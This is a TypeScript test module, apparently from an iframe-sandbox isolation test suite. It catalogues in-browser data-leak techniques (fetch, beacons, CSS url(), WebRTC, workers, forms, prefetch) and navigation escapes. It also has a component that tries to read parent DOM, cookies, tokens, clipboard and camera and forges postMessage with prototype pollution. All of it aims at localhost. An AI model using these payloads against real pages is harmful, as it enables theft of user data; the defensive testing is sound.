// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are pieces of code
/** Attempts to send something out of the frame. `url` and `host` name the attempt, `stun` is a peer server. */
export const leaks: Record<string, string> = {
  fetch: "fetch(url)",
  "fetch-keepalive": 'fetch(url, { mode: "no-cors", keepalive: true, method: "POST", body: "x" })',
  "fetch-own-server": 'fetch("/stolen-fetch")',
  xhr: 'const request = new XMLHttpRequest(); request.open("GET", url); request.send()',
  "web-socket": 'new WebSocket(url.replace("http", "ws"))',
  "event-source": "new EventSource(url)",
  "web-transport": 'new window.WebTransport(url.replace("http", "https"))',
  beacon: 'navigator.sendBeacon(url, "x")',
  "beacon-prototype": "Navigator.prototype.sendBeacon.call(navigator, url)",
  "fetch-later": "window.fetchLater(url, { activateAfter: 0 })",
  image: "new Image().src = url",
  "image-srcset": "new Image().srcset = url",
  "image-own-server": 'new Image().src = "/stolen-image"',
  "svg-image": 'markup(`<svg><image href="${url}" /><use href="${url}#a" /><feImage href="${url}" /></svg>`)',
  picture: 'markup(`<picture><source srcset="${url}"><img src="${url}"></picture>`)',
  video: 'markup(`<video src="${url}" poster="${url}" autoplay></video>`)',
  audio: "new Audio(url).play()",
  track: 'markup(`<video><track default src="${url}"></video>`)',
  font: "const font = new FontFace('stolen', `url(${url})`); document.fonts.add(font); font.load()",
  "font-rule": 'css(`@font-face { font-family: s; src: url(${url}) } body { font-family: s }`); markup("text")',
  "css-url": 'css(`body { background: url("${url}") }`)',
  "css-image-set": 'css(`body::after { content: image-set(url("${url}") 1x) }`)',
  "css-import": 'css(`@import url("${url}");`)',
  "css-cursor": "css(`body { cursor: url(${url}), auto }`)",
  "css-inline": "document.body.style.backgroundImage = `url(${url})`",
  "css-constructed":
    "const sheet = new CSSStyleSheet(); sheet.replaceSync(`body { mask: url(${url}) }`); document.adoptedStyleSheets = [sheet]",
  "style-sheet": "link('stylesheet')",
  prefetch: "link('prefetch')",
  preload: "const made = link('preload'); made.as = 'image'",
  "module-preload": "link('modulepreload')",
  prerender: "link('prerender')",
  "speculation-rules":
    'const rules = document.createElement("script"); rules.type = "speculationrules"; rules.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [url], eagerness: "immediate" }] }); document.head.append(rules)',
  preconnect: "link('preconnect')",
  "preconnect-crossorigin": "const made = link('preconnect'); made.crossOrigin = ''",
  "dns-prefetch": "link('dns-prefetch')",
  "preconnect-markup": 'markup(`<link rel="preconnect" href="${url}"><link rel="dns-prefetch" href="${url}">`)',
  "preconnect-fragment":
    'document.body.append(document.createRange().createContextualFragment(`<link rel="preconnect" href="${url}">`))',
  "preconnect-rel-later":
    'const made = document.createElement("link"); made.href = url; document.head.append(made); made.relList.add("preconnect")',
  "preconnect-shadow":
    'const host = document.createElement("div"); document.body.append(host); host.attachShadow({ mode: "open" }).innerHTML = `<link rel="preconnect" href="${url}">`',
  icon: "link('icon')",
  manifest: "link('manifest')",
  script: 'const made = document.createElement("script"); made.src = url; document.head.append(made)',
  "own-script":
    'const made = document.createElement("script"); made.src = "/stolen-script"; document.head.append(made)',
  import: "import(/* @vite-ignore */ `${url}`).catch(() => {})",
  "import-map":
    'const made = document.createElement("script"); made.type = "importmap"; made.textContent = JSON.stringify({ imports: { stolen: url } }); document.head.append(made); import(`${"stolen"}`).catch(() => {})',
  frame: 'const made = document.createElement("iframe"); made.src = url; document.body.append(made)',
  "frame-document":
    'const made = document.createElement("iframe"); made.srcdoc = `<img src="${url}"><script>new Image().src = "${url}"</` + "script>"; document.body.append(made)',
  fenced: 'markup(`<fencedframe src="${url}"></fencedframe>`)',
  object: 'markup(`<object data="${url}"></object><embed src="${url}">`)',
  worker: 'new Worker(URL.createObjectURL(new Blob([`fetch("${url}"); importScripts("${url}")`])))',
  "data-worker": 'new Worker(`data:text/javascript,fetch("${url}")`)',
  "shared-worker": 'new SharedWorker(URL.createObjectURL(new Blob([`fetch("${url}")`])))',
  "service-worker": 'navigator.serviceWorker.register("/stolen-worker")',
  worklet: "CSS.paintWorklet.addModule(url)",
  "audio-worklet": "new AudioContext().audioWorklet.addModule(url)",
  form: 'markup(`<form method="post" action="${url}"><input name="a" value="b"></form>`).querySelector("form").submit()',
  "form-own-server": 'markup(`<form action="/stolen-form"></form>`).querySelector("form").submit()',
  ping: 'const made = markup(`<a href="#" ping="${url}">x</a>`).querySelector("a"); made.click()',
  base: 'markup(`<base href="${url}">`); new Image().src = "relative"',
  open: "window.open(url)",
  "open-prototype": "Object.getPrototypeOf(window).open?.call(window, url)",
  "open-link": 'markup(`<a target="_blank" href="${url}">x</a>`).querySelector("a").click()',
  top: "top!.location.href = url",
  "top-link":
    'const made = markup(`<a target="_top" href="${url}">x</a>`).querySelector("a"); quiet(made); made.click()',
  "parent-location": "parent.location.replace(url)",
  peer: "peer(RTCPeerConnection)",
  "peer-alias":
    "for (const key of Object.getOwnPropertyNames(window)) if (/PeerConn/i.test(key)) { delete window[key]; await peer(window[key]); }",
  "blank-frame":
    'const made = document.createElement("iframe"); document.body.append(made); made.contentWindow.fetch(url)',
  "document-write": 'document.write(`<img src="${url}"><link rel="preconnect" href="${url}">`)',
  "xslt-markup":
    'document.body.append(new DOMParser().parseFromString(`<img xmlns="http://www.w3.org/1999/xhtml" src="${url}"/>`, "text/xml").documentElement)',
  share: "navigator.share({ url })",
  protocol: "navigator.registerProtocolHandler('web+x', url + '?%s')",
  payment:
    'new PaymentRequest([{ supportedMethods: url }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment()',
  credential: 'navigator.credentials.get({ identity: { providers: [{ configURL: url, clientId: "x" }] } })',
  "report-to":
    'const made = document.createElement("meta"); made.httpEquiv = "content-security-policy"; made.content = `img-src none; report-uri ${url}`; document.head.append(made)',
  "css-attribute":
    'css(`input[value^="s"] { background: url("${url}") } input:valid { list-style: url("${url}") }`); markup(`<input value="secret">`)',
  "css-namespace": 'css(`@namespace s url("${url}"); @document url("${url}") { p { color: red } }`)',
  "css-supports": 'css(`@import url("${url}") supports(display: block) layer(a); @layer a;`)',
  "css-filter": 'css(`body { filter: url("${url}#f"); clip-path: url("${url}#c"); shape-outside: url("${url}") }`)',
  "font-source":
    'css(`@font-face { font-family: t; src: local("x"), url("${url}") format("woff2") tech(variations) } p { font-family: t }`); markup("<p>text</p>")',
  "old-attributes":
    'markup(`<table background="${url}"><tr><td background="${url}">x</table><input type="image" src="${url}"><body background="${url}">`)',
  "svg-script": 'markup(`<svg><script href="${url}"></script></svg>`)',
  "svg-animation": 'markup(`<svg><image><set attributeName="href" to="${url}" /></image></svg>`)',
  attribution: 'markup(`<img attributionsrc="${url}" src="data:,"><a attributionsrc="${url}" href="#">x</a>`)',
  "web-socket-stream": 'new window.WebSocketStream(url.replace("http", "ws"))',
  "background-fetch": 'navigator.serviceWorker.ready.then((one) => one.backgroundFetch.fetch("x", [url]))',
  "iframe-later":
    'const made = document.createElement("iframe"); document.body.append(made); made.src = url; made.contentWindow.location = url',
  "history-state": 'history.pushState({}, "", url)',
  "speculation-prerender":
    'const rules = document.createElement("script"); rules.type = "speculationrules"; rules.textContent = JSON.stringify({ prerender: [{ urls: [url], eagerness: "immediate" }] }); document.head.append(rules)',
  media: "navigator.mediaDevices.getUserMedia({ audio: true })",
};

/** Ways of a frame to go somewhere else by itself; each ends the frame that tries it. */
export const departures: Record<string, string> = {
  location: "location.href = url",
  replace: "location.replace(url)",
  assign: "window.location.assign(url)",
  "document-location": "document.location = url",
  "navigation-interface": "window.navigation.navigate(url)",
  "link-area":
    'const made = markup(`<map><area href="${url}" shape="default"></map>`).querySelector("area"); quiet(made); made.click()',
  "svg-link":
    'const made = markup(`<svg><a href="${url}"><text>x</text></a></svg>`).querySelector("a"); quiet(made); made.dispatchEvent(new MouseEvent("click", { bubbles: true }))',
  refresh: 'markup(`<meta http-equiv="refresh" content="0;url=${url}">`)',
  link: 'const made = markup(`<a href="${url}">x</a>`).querySelector("a"); quiet(made); made.click()',
  script: "location.href = `javascript:location='${url}'`",
  data: "location.href = `data:text/html,<img src=${url}>`",
  blob: 'location.href = URL.createObjectURL(new Blob([`<img src="${url}"><link rel=preconnect href="${url}">`], { type: "text/html" }))',
};

/** A component that tries some of these one after the other, and says when it is through. */
export function attack(tries: Record<string, string>, ports: { tcp: number; udp: number }): string {
  const cases = Object.entries(tries).map(
    ([name, code]) =>
      `await attempt(${JSON.stringify(name)}, async (url: string) => { ${code.replaceAll("querySelector(", "querySelector<any>(")} });`,
  );
  return `// @ts-nocheck
import { useEffect } from "react";
const stun = "stun:127.0.0.1:${ports.udp}";
const markup = (html) => { const box = document.createElement("div"); document.body.append(box); box.innerHTML = html; return box; };
const css = (text) => { const style = document.createElement("style"); style.textContent = text; document.head.append(style); };
const peer = async (Peer) => { const made = new Peer({ iceServers: [{ urls: stun }] }); made.createDataChannel("x"); await made.setLocalDescription(await made.createOffer()); };
const quiet = (element) => element.addEventListener("click", (event) => event.stopImmediatePropagation(), true);
async function attempt(name, run) {
  const url = "http://" + name + ".leak.localhost:${ports.tcp}/" + name;
  globalThis.link = (rel) => { const made = document.createElement("link"); made.rel = rel; made.href = url; document.head.append(made); return made; };
  try { await Promise.race([run(url), new Promise((done) => setTimeout(done, 40))]); } catch {}
}
export default function Attack() {
  useEffect(() => { (async () => {
    ${cases.join("\n    ")}
    console.log("through");
  })(); }, []);
  return <p>attack</p>;
}`;
}

/** The same in a page of its own, to see that the attempts are real. */
export function plainAttack(tries: Record<string, string>, ports: { tcp: number; udp: number }): string {
  const source = attack(tries, ports);
  const body = source.slice(source.indexOf("const stun"), source.indexOf("export default"));
  const run = source.slice(source.indexOf("(async () => {"), source.indexOf("; }, [])"));
  return new Bun.Transpiler({ loader: "ts" }).transformSync(`${body}\n${run}`).replaceAll("</", "<\\/");
}

/** Looks wherever the page around might be seen, and says `read` with what it got hold of. */
export const readings = `// @ts-nocheck
import { useEffect } from "react";
const tries = {
  parentVariable: () => parent.secret,
  parentDom: () => parent.document.body.innerHTML,
  topDom: () => top.document.title,
  frameElement: () => frameElement?.outerHTML,
  parentStorage: () => parent.localStorage.getItem("token"),
  ownStorage: () => localStorage.getItem("token"),
  nativeStorage: () => Object.getOwnPropertyDescriptor(Window.prototype, "localStorage")?.get.call(window).getItem("token"),
  cookie: () => document.cookie || Object.getOwnPropertyDescriptor(Document.prototype, "cookie").get.call(document),
  cookieStore: async () => (await cookieStore.getAll()).map((one) => one.name).join(),
  databases: async () => (await indexedDB.databases()).map((one) => one.name).join(),
  caches: async () => (await caches.keys()).join(),
  opener: () => opener?.document.title,
  siblings: () => [...Array(parent.length)].map((_, index) => parent[index] === self ? "" : parent[index].document.title).join(""),
  channel: async () => { const channel = new BroadcastChannel("x"); channel.postMessage("x"); return ""; },
  referrer: () => document.referrer,
  clipboard: () => navigator.clipboard.readText(),
  fullscreen: async () => { await document.documentElement.requestFullscreen(); return "fullscreen"; },
  pointer: async () => { await document.documentElement.requestPointerLock(); return document.pointerLockElement ? "locked" : ""; },
  storageAccess: async () => { await document.requestStorageAccess(); return "granted"; },
  notification: async () => (await Notification.requestPermission()) === "granted" && "granted",
  geolocation: () => new Promise((done) => navigator.geolocation.getCurrentPosition(() => done("position"), () => done(""))),
  camera: async () => { await navigator.mediaDevices.getUserMedia({ video: true }); return "camera"; },
  screen: async () => { await navigator.mediaDevices.getDisplayMedia(); return "screen"; },
  sensors: () => new Promise((done) => { addEventListener("deviceorientation", () => done("sensors")); const sensor = new Accelerometer(); sensor.onreading = () => done("sensors"); sensor.start(); }),
  wakeLock: async () => { await navigator.wakeLock.request("screen"); return "lock"; },
  serviceWorker: async () => { await navigator.serviceWorker.register("/host.js"); return "registered"; },
  sharedWorker: () => new Promise((done) => { const made = new SharedWorker("data:text/javascript,onconnect=(e)=>e.ports[0].postMessage(1)"); made.port.onmessage = () => done("shared"); made.port.start(); }),
  worker: () => new Promise((done) => { const made = new Worker("data:text/javascript,postMessage(1);for(;;);"); made.onmessage = () => done("worker"); }),
  memory: async () => { const found = await performance.measureUserAgentSpecificMemory(); return JSON.stringify(found.breakdown.map((one) => one.attribution)); },
  storageEvents: () => new Promise((done) => { addEventListener("storage", (event) => done(event.newValue)); }),
  keyboard: async () => { await navigator.keyboard.lock(); return "locked"; },
  pip: async () => { await document.createElement("video").requestPictureInPicture(); return "picture"; },
  windowName: () => { parent.name = "stolen"; top.name = "stolen"; return ""; },
  parentClose: () => { parent.close(); top.close(); parent.focus(); parent.blur(); return ""; },
  titles: () => { document.title = "stolen"; const icon = document.createElement("link"); icon.rel = "icon"; icon.href = "data:,"; document.head.append(icon); return ""; },
  popup: () => { const made = window.open("about:blank"); return made && "window"; },
  evaluated: () => new Function("return 'evaluated'")(),
  back: () => { history.back(); history.go(-1); return ""; },
  polluted: () => {
    Object.prototype.vitrine = "x";
    Object.prototype.type = "render";
    Array.prototype.push = () => { throw new Error("polluted"); };
    Map.prototype.get = () => undefined;
    EventTarget.prototype.addEventListener = () => {};
    addEventListener("message", (event) => { if (event.data.secret) console.log("read", "[\\"message\\"]"); }, true);
    for (const nonce of ["", "0", "guess", undefined, location.hash.slice(1) + "x"]) {
      for (const type of ["ready", "console", "hung", "__proto__", "constructor"]) {
        parent.postMessage({ vitrine: nonce, type, args: ["forged"], level: "log", __proto__: { admin: true } }, "*");
      }
    }
    return "";
  },
};
export default function Reader() {
  useEffect(() => { (async () => {
    const got = [];
    for (const [name, run] of Object.entries(tries)) {
      try { const value = await Promise.race([run(), new Promise((done) => setTimeout(done, 300))]); if (value) got.push([name, value]); } catch {}
    }
    console.log("read", JSON.stringify(got));
  })(); }, []);
  return <p>reader</p>;
}`;
